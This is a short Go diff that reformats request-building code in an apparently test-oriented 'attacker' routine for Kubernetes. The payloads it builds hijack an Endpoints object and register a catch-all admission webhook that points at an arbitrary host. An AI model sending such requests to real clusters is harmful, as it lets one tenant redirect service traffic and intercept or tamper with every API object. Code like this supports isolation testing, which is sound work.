@@ -163,16 +163,17 @@ func (g *attacker) elsewhere(r *attack) (path string) {
 	case 3:
 		r.method = http.MethodPatch
 		r.header.Set("Content-Type", "application/apply-patch+yaml")
-		r.body = `{"apiVersion":"v1","kind":"Endpoints","metadata":{"name":"` + name + `"},"subsets":[{"addresses":[{"ip":"` +
-			ip + `"}],"ports":[{"port":443}]}]}`
+		r.body = `{"apiVersion":"v1","kind":"Endpoints","metadata":{"name":"` + name +
+			`"},"subsets":[{"addresses":[{"ip":"` + ip + `"}],"ports":[{"port":443}]}]}`
 		return olds + "/" + name + "?fieldManager=x&force=true"
 	case 4:
 		host := ip
 		if family == "IPv6" {
 			host = "[" + ip + "]"
 		}
-		r.body = `{"metadata":{"name":"` + name + `"},"webhooks":[{"name":"x.example.com","clientConfig":{"url":"https://` +
-			host + `/"},` + notOwn + `,"rules":[{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],` +
+		r.body = `{"metadata":{"name":"` + name + `"},"webhooks":[{"name":"x.example.com","clientConfig":{` +
+			`"url":"https://` + host + `/"},` + notOwn + `,` +
+			`"rules":[{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],` +
 			`"resources":["*/*"]}],"sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore"}]}`
 		return registration + pick(g, "mutating", "validating") + "webhookconfigurations"
 	default: // a policy of the tenant writes it into what upstream's controllers write
